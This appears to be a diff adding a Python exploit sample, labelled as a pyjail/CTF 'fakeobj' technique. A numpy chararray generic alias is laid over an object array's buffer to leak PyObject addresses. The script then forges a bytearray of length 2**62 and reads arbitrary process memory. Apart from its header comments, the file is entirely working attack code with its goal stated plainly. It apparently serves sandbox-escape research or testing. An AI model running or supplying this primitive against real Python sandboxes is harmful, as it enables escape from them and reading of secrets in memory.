@@ -1,0 +1,27 @@
+# source: numpy chararray.__new__(shape, itemsize, unicode, buffer, offset, strides) (numpy/core/defchararray.py) + PEP 585 ndarray.__class_getitem__; classic fakeobj via object-array pointer slots (pyjail/CTF "fakeobj" technique)
+# family: type alias (generic alias of an ndarray subclass) hides an ndarray constructor with buffer= over an object array
+# goal: read/overwrite raw PyObject* slots, leak addresses, forge a bytearray spanning all memory, arbitrary memory read
+import numpy as np
+from typing import Any
+
+Chars = np.chararray[Any, Any]
+
+slots = np.array([None, None, None], dtype=object)
+secret = b"HELLO-FROM-ANOTHER-OBJECT"
+slots[0] = secret
+slots[1] = bytearray
+raw = Chars((3,), 8, False, slots)
+b = raw.tobytes()
+p_secret = int.from_bytes(b[0:8], "little")
+p_batype = int.from_bytes(b[8:16], "little")
+print("leaked address of a bytes object:", hex(p_secret))
+print("leaked address of type bytearray:", hex(p_batype))
+big = 2 ** 62
+fake = (big).to_bytes(8, "little") + p_batype.to_bytes(8, "little") + big.to_bytes(8, "little") + big.to_bytes(8, "little") + bytes(24)
+slots[2] = fake
+b = raw.tobytes()
+p_fake = int.from_bytes(b[16:24], "little") + 32
+raw[2] = p_fake.to_bytes(8, "little")
+mem = slots[2]
+print("forged object type:", type(mem).__name__, "len", len(mem))
+print("raw read at leaked address+32:", bytes(mem[p_secret + 32:p_secret + 57]))
